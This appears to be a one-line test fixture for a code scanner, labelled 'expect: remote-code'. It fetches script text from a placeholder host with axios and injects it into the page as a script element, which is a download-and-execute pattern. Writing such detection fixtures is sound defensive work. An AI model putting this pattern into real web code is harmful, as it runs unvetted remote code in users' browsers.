// expect: remote-code
axios({ url: "https://x.example/s", method: "get" }).then(function (res) { var s = document.createElement("script"); s.appendChild(document.createTextNode(res.data)); document.body.appendChild(s); });
